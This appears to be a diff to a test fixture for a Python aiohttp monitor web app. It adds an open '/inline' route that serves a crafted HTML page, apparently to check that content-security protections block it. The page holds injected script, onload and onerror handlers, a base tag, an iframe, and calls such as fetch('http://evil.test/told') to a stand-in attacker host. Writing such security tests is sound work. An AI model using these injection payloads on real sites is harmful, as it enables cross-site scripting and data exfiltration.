@@ -18,6 +18,10 @@ from monitor.websettings import WebSettings
 
 LEAK = "ab" * 32
 SIGN_IN = "/in"
+INLINE = """<!doctype html><title>ours</title><style>p { color: rgb(1, 2, 3) }</style><body onload="document.title = 'theirs'">
+<p style="color: rgb(1, 2, 3)">text</p><img src="http://evil.test/pixel" onerror="document.title = 'theirs'"><base href="http://evil.test/">
+<script>document.title = 'theirs'; fetch('http://evil.test/told')</script><script src="http://evil.test/script.js"></script>
+<iframe src="http://evil.test/"></iframe></body>"""
 
 
 @dataclass
@@ -116,6 +120,9 @@ async def site(settings: Mapping[str, Any] | None = None, **more: Any) -> AsyncI
     async def boom(request: web.Request) -> web.Response:
         raise RuntimeError("the inside")
 
+    async def inline(request: web.Request) -> web.Response:
+        return web.Response(text=INLINE, content_type="text/html")
+
     async def stream(request: web.Request) -> web.StreamResponse:
         answer = web.StreamResponse()
         await answer.prepare(request)
@@ -135,7 +142,9 @@ async def site(settings: Mapping[str, Any] | None = None, **more: Any) -> AsyncI
     listener.add_routes([web.get("/admin", doing("admin"))], role=Role.ADMIN)
     listener.add_routes([web.post("/logout", sign_out)], role=Role.VIEWER)
     listener.add_routes([web.post("/drop", own)], Access.OWN)
-    listener.add_routes([web.get("/plain", plain), web.get(SIGN_IN, sign_in)], Access.OPEN)
+    listener.add_routes(
+        [web.get("/plain", plain), web.get("/inline", inline), web.get(SIGN_IN, sign_in)], Access.OPEN
+    )
     await listener.start()
     try:
         yield made
